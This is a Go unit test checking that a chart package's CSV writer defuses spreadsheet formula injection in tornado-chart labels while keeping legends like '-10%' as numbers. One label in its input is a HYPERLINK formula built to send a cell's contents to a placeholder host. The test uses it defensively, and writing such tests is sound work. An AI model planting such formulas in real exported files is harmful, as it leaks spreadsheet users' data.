package chart

import (
	"strings"
	"testing"

	"github.com/shopspring/decimal"
)

// TestTornadoCSVInjection: the tornado's numbers, which no HTTP route
// serves as CSV, go through the one CSV writer too: a lever's label that
// a spreadsheet would run is text, a legend of -10% stays a number.
func TestTornadoCSVInjection(t *testing.T) {
	in := Input{Tornado: &Tornado{Plan: "p", Down: "-10%", Up: "+10%", Bars: []TornadoBar{
		{Label: `=HYPERLINK("http://x/?leak="&C2,"x")`, Down: decimal.NewFromInt(-5), Up: decimal.NewFromInt(5)},
	}}}
	b, err := Render(KindTornado, CSV, in)
	if err != nil {
		t.Fatal(err)
	}
	s := string(b)
	if !strings.Contains(s, `"'=HYPERLINK(`) || !strings.Contains(s, ",-10%,+10%") || !strings.Contains(s, ",-5,5") {
		t.Errorf("tornado CSV:\n%s", s)
	}
}
